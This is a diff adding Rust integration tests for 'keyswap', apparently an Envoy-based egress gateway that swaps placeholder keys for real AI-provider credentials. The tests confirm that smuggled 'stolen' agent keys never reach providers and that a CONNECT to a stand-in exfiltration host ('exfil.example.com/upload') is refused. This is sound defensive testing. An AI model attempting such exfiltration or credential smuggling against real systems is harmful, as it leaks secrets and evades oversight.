@@ -1,0 +1,346 @@
+//! The whole gateway: `keyswap dev` runs Envoy with the generated config (CONNECT proxy, TLS
+//! terminated with the gateway CA's leaf, ext_proc fail closed) in front of TLS fake providers.
+//! Agents are curl and the official Python SDKs, configured only by the printed environment.
+
+mod common;
+
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+use common::*;
+
+fn gateway_config(policy: &str, proxy_port: u16, allow: &str) -> String {
+    format!(
+        r#"apiVersion: keyswap.dev/v1alpha1
+kind: EgressGateway
+metadata: {{name: egress}}
+spec:
+  defaultPolicy: {policy}
+  listeners: [{{name: proxy, protocol: CONNECT, port: {proxy_port}}}]
+  allow: [{allow}]
+---
+apiVersion: keyswap.dev/v1alpha1
+kind: AIProviderRoute
+metadata: {{name: providers}}
+spec:
+  parentRefs: [{{name: egress}}]
+  rules:
+  - matches: [{{provider: anthropic}}, {{provider: openai}}]
+---
+apiVersion: keyswap.dev/v1alpha1
+kind: CredentialInjectionPolicy
+metadata: {{name: keys}}
+spec:
+  parentRefs: [{{kind: EgressGateway, name: egress}}]
+  secretRef: {{name: provider-keys}}
+  target: Header
+---
+apiVersion: v1
+kind: Secret
+metadata: {{name: provider-keys}}
+stringData: {{token: {ANTHROPIC_KEY}}}
+"#
+    )
+}
+
+/// `keyswap dev` as a process, and the environment it printed for agents.
+struct Dev {
+    proc: Proc,
+    env: HashMap<String, String>,
+    work: PathBuf,
+}
+
+fn start_dev(config: &Path, work: &Path, upstreams: &[String]) -> Dev {
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_keyswap"));
+    cmd.arg("dev").arg("--config").arg(config).arg("--work").arg(work).args(["--admin-port", "0"]);
+    for u in upstreams {
+        cmd.arg("--upstream").arg(u);
+    }
+    cmd.env("RUST_LOG", "debug").env("ENVOY_BIN", envoy_bin());
+    let out = work.join("dev.stdout");
+    let err = std::fs::File::create(work.join("dev.stderr")).unwrap();
+    cmd.stdout(std::fs::File::create(&out).unwrap()).stderr(err);
+    let child = cmd.spawn().unwrap();
+    let mut proc = Proc { name: "keyswap dev", child, log: work.join("dev.stderr") };
+    let deadline = Instant::now() + Duration::from_secs(60);
+    loop {
+        let text = std::fs::read_to_string(&out).unwrap_or_default();
+        if text.contains("export AWS_CA_BUNDLE=") {
+            let env = text
+                .lines()
+                .filter_map(|l| l.strip_prefix("export "))
+                .filter_map(|l| l.split_once('='))
+                .map(|(k, v)| (k.to_owned(), v.to_owned()))
+                .collect();
+            return Dev { proc, env, work: work.to_path_buf() };
+        }
+        proc.assert_running();
+        assert!(Instant::now() < deadline, "keyswap dev printed no environment in 60 s:\n{}", proc.output());
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// Runs curl through the gateway the way an agent would (proxy + gateway CA only).
+fn curl(dev: &Dev, args: &[&str]) -> (i32, String, String) {
+    let out = Command::new("curl")
+        .args([
+            "-sS",
+            "--max-time",
+            "20",
+            "--proxy",
+            &dev.env["HTTPS_PROXY"],
+            "--cacert",
+            &dev.env["NODE_EXTRA_CA_CERTS"],
+        ])
+        .args(args)
+        .env_remove("HTTPS_PROXY")
+        .env_remove("https_proxy")
+        .env_remove("NO_PROXY")
+        .env_remove("no_proxy")
+        .output()
+        .expect("curl is installed (apt-get install -y curl)");
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+fn python() -> String {
+    let out = Command::new("python3").args(["-c", "import sys, openai, anthropic; print(sys.executable)"]).output();
+    match out {
+        Ok(o) if o.status.success() => String::from_utf8_lossy(&o.stdout).trim().to_owned(),
+        _ => panic!("the official SDKs are missing: pip install openai anthropic"),
+    }
+}
+
+/// The SDK script with a clean environment: only what `keyswap dev` printed, PATH and HOME.
+fn sdk(dev: &Dev, provider: &str, mode: &str) -> String {
+    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/sdk/chat.py");
+    let out = Command::new(python())
+        .arg(script)
+        .args([provider, mode])
+        .env_clear()
+        .env("PATH", "/usr/bin:/bin")
+        .env("HOME", std::env::var("HOME").unwrap_or_else(|_| "/tmp".into()))
+        .envs(&dev.env)
+        .output()
+        .unwrap();
+    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+    assert!(out.status.success(), "{provider} {mode} failed:\n{stdout}\n{stderr}\nkeyswap:\n{}", dev.proc.output());
+    stdout.into_owned()
+}
+
+fn assert_only_real_keys(fake: &FakeProvider) {
+    for s in fake.seen() {
+        let all = s.everything();
+        assert!(!all.contains(PLACEHOLDER), "placeholder reached the provider: {all}");
+        assert!(!all.contains(STOLEN), "agent credential reached the provider: {all}");
+        match s.host.as_str() {
+            "api.anthropic.com" => {
+                assert_eq!(s.header_str("x-api-key").as_deref(), Some(ANTHROPIC_KEY), "{all}");
+                assert_eq!(s.header_str("authorization"), None, "{all}");
+            }
+            "api.openai.com" => {
+                assert_eq!(s.header_str("authorization"), Some(format!("Bearer {ANTHROPIC_KEY}")), "{all}");
+                assert_eq!(s.header_str("x-api-key"), None, "{all}");
+            }
+            other => panic!("unexpected host {other}: {all}"),
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn curl_and_official_sdks_reach_providers_with_only_the_real_key() {
+    let work = tempfile::tempdir().unwrap();
+    let config = tempfile::tempdir().unwrap();
+    let proxy_port = free_port();
+    std::fs::write(config.path().join("gateway.yaml"), gateway_config("deny-all", proxy_port, "")).unwrap();
+    let (fake, provider_ca) = FakeProvider::start_tls(&["api.anthropic.com", "api.openai.com"], work.path()).await;
+    fake.set_accepts("api.openai.com", vec![Accept::Header("authorization", format!("Bearer {ANTHROPIC_KEY}"))]);
+    let ca = provider_ca.display();
+    let upstreams =
+        [format!("api.anthropic.com={},ca={ca}", fake.addr), format!("api.openai.com={},ca={ca}", fake.addr)];
+    let dev = tokio::task::block_in_place(|| start_dev(config.path(), work.path(), &upstreams));
+    assert_eq!(dev.env["HTTPS_PROXY"], format!("http://127.0.0.1:{proxy_port}"));
+
+    // curl with the placeholder, and with smuggled credentials.
+    let body = r#"{"model":"claude-sonnet-4-5","max_tokens":16,"messages":[{"role":"user","content":"hi"}]}"#;
+    let (code, out, err) = curl(
+        &dev,
+        &[
+            "-w",
+            "\n%{http_code}",
+            "-H",
+            "x-api-key: keyswap-injected-by-proxy",
+            "-H",
+            "content-type: application/json",
+            "-d",
+            body,
+            "https://api.anthropic.com/v1/messages",
+        ],
+    );
+    assert_eq!(code, 0, "{err}\n{}", dev.proc.output());
+    assert!(out.ends_with("\n200") && out.contains("Hello from the fake provider"), "{out}");
+    let (code, out, err) = curl(
+        &dev,
+        &[
+            "-w",
+            "\n%{http_code}",
+            "-H",
+            "Authorization: Bearer sk-stolen-by-agent-9999",
+            "-H",
+            "X-Api-Key: sk-stolen-by-agent-9999",
+            "-d",
+            "{}",
+            "https://api.openai.com/v1/chat/completions",
+        ],
+    );
+    assert_eq!(code, 0, "{err}");
+    assert!(out.ends_with("\n200"), "{out}");
+
+    // The official SDKs, non-streaming and streaming (SSE), with placeholder keys.
+    for provider in ["anthropic", "openai"] {
+        for mode in ["plain", "stream"] {
+            let out = tokio::task::block_in_place(|| sdk(&dev, provider, mode));
+            assert_eq!(out.trim(), format!("{provider} {mode}: Hello from the fake provider (output tokens: 7)"));
+        }
+    }
+    let seen = fake.seen().len();
+    assert_eq!(seen, 6, "two curl calls and four SDK calls");
+    assert_only_real_keys(&fake);
+
+    // CONNECT to a host without a route on a deny-all gateway is refused.
+    let (code, _, err) = curl(&dev, &["https://exfil.example.com/upload"]);
+    assert_ne!(code, 0);
+    assert!(err.contains("403"), "CONNECT refused with 403: {err}");
+    // Plain HTTP through the proxy never reaches a provider, placeholder or not.
+    let (_, out, _) = curl(
+        &dev,
+        &["-w", "\n%{http_code}", "-H", "x-api-key: keyswap-injected-by-proxy", "http://api.anthropic.com/v1/messages"],
+    );
+    assert!(out.ends_with("\n403"), "plain HTTP refused: {out}");
+    assert_eq!(fake.seen().len(), seen, "refused requests reached the upstream");
+
+    // No private key material in keyswap's output.
+    let logs = dev.proc.output() + &std::fs::read_to_string(dev.work.join("dev.stdout")).unwrap();
+    for key_file in ["ca.key", "leaf.key"] {
+        let pem = std::fs::read_to_string(dev.work.join(key_file)).unwrap();
+        let body: String = pem.lines().filter(|l| !l.starts_with("-----")).collect();
+        assert!(body.len() > 40);
+        for line in pem.lines().filter(|l| !l.starts_with("-----")) {
+            assert!(!logs.contains(line), "{key_file} content in keyswap's output");
+        }
+    }
+    assert!(!logs.contains(ANTHROPIC_KEY), "secret in keyswap's output");
+
+    // Ctrl-C (SIGTERM) stops keyswap and Envoy.
+    let mut dev = dev;
+    let status = tokio::task::block_in_place(|| dev.proc.terminate());
+    assert!(status.success(), "keyswap dev exit: {status}\n{}", dev.proc.output());
+    assert!(std::net::TcpStream::connect(("127.0.0.1", proxy_port)).is_err(), "Envoy still listening after stop");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn allow_all_gateway_tunnels_unrouted_hosts_and_deny_all_refuses_them() {
+    let other = FakeProvider::start().await; // an unrouted service on loopback
+    let target = format!("http://{}/ping", other.addr);
+    for (policy, allow, tunnelled) in
+        [("allow-all", "", true), ("deny-all", "", false), ("deny-all", "\"127.0.0.1\"", true)]
+    {
+        let work = tempfile::tempdir().unwrap();
+        let config = tempfile::tempdir().unwrap();
+        let port = free_port();
+        std::fs::write(config.path().join("gateway.yaml"), gateway_config(policy, port, allow)).unwrap();
+        let dev = tokio::task::block_in_place(|| start_dev(config.path(), work.path(), &[]));
+        let before = other.seen().len();
+        // -p: tunnel plain HTTP through CONNECT, as HTTPS clients do.
+        let (code, out, err) = curl(&dev, &["-p", "-w", "%{http_code}", "-o", "/dev/null", &target]);
+        if tunnelled {
+            assert_eq!(code, 0, "{policy} allow=[{allow}]: {err}\n{}", dev.proc.output());
+            assert_eq!(out, "401", "the unrouted service answered through the tunnel");
+            assert_eq!(other.seen().len(), before + 1);
+        } else {
+            assert_ne!(code, 0, "{policy}: tunnel must be refused");
+            assert!(err.contains("403"), "{err}");
+            assert_eq!(other.seen().len(), before);
+        }
+    }
+}
+
+#[test]
+fn generated_configs_pass_envoy_validate() {
+    let examples = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/manifests/examples"));
+    let pair = tempfile::tempdir().unwrap();
+    let azure = "---\napiVersion: keyswap.dev/v1alpha1\nkind: AIProviderRoute\nmetadata: {name: azure}\nspec:\n  parentRefs: [{name: egress}]\n  rules: [{matches: [{provider: azure-openai}, {provider: bedrock}]}]\n";
+    let mut dirs = vec![examples];
+    for (name, policy, allow) in [("deny", "deny-all", "\"pypi.org\", \"*.github.com\""), ("allow", "allow-all", "")] {
+        let d = pair.path().join(name);
+        std::fs::create_dir(&d).unwrap();
+        let text = gateway_config(policy, 10000, allow).replace(
+            "listeners: [{name: proxy, protocol: CONNECT, port: 10000}]",
+            "listeners: [{name: proxy, protocol: CONNECT, port: 10000}, {name: tls, protocol: HTTPS, port: 10443, tls: {mode: Terminate}}]",
+        ) + azure;
+        std::fs::write(d.join("gateway.yaml"), text).unwrap();
+        dirs.push(d);
+    }
+    for dir in dirs {
+        let work = tempfile::tempdir().unwrap();
+        let out = Command::new(env!("CARGO_BIN_EXE_keyswap"))
+            .arg("envoy-config")
+            .arg("--config")
+            .arg(&dir)
+            .arg("--certs")
+            .arg(work.path().join("certs"))
+            .arg("--uds")
+            .arg(work.path().join("k.sock"))
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{}: {}", dir.display(), String::from_utf8_lossy(&out.stderr));
+        let cfg = work.path().join("envoy.yaml");
+        std::fs::write(&cfg, &out.stdout).unwrap();
+        let v = Command::new(envoy_bin()).args(["--mode", "validate", "-c"]).arg(&cfg).output().unwrap();
+        assert!(
+            v.status.success(),
+            "{} does not validate:\n{}\n{}",
+            dir.display(),
+            String::from_utf8_lossy(&v.stdout),
+            String::from_utf8_lossy(&v.stderr)
+        );
+    }
+}
+
+#[test]
+fn leaf_chains_to_the_gateway_ca_with_a_san_per_host() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = tempfile::tempdir().unwrap();
+    std::fs::write(config.path().join("gateway.yaml"), gateway_config("deny-all", 10000, "")).unwrap();
+    let out = Command::new(env!("CARGO_BIN_EXE_keyswap"))
+        .args(["certs", "--config"])
+        .arg(config.path())
+        .arg("--out")
+        .arg(dir.path())
+        .env("RUST_LOG", "debug")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let ca = dir.path().join("ca.crt");
+    let leaf = dir.path().join("leaf.crt");
+    let openssl = |args: &[&str]| {
+        let o = Command::new("openssl").args(args).output().expect("openssl is installed (apt-get install -y openssl)");
+        assert!(o.status.success(), "openssl {args:?}: {}", String::from_utf8_lossy(&o.stderr));
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    };
+    let verify = openssl(&["verify", "-CAfile", ca.to_str().unwrap(), leaf.to_str().unwrap()]);
+    assert!(verify.trim().ends_with(": OK"), "{verify}");
+    let text = openssl(&["x509", "-in", leaf.to_str().unwrap(), "-noout", "-ext", "subjectAltName,extendedKeyUsage"]);
+    assert!(text.contains("DNS:api.anthropic.com") && text.contains("DNS:api.openai.com"), "{text}");
+    assert!(text.contains("TLS Web Server Authentication"), "{text}");
+    for line in std::fs::read_to_string(dir.path().join("ca.key")).unwrap().lines().filter(|l| !l.starts_with("-----"))
+    {
+        let all = String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
+        assert!(!all.contains(line), "CA key printed");
+    }
+}
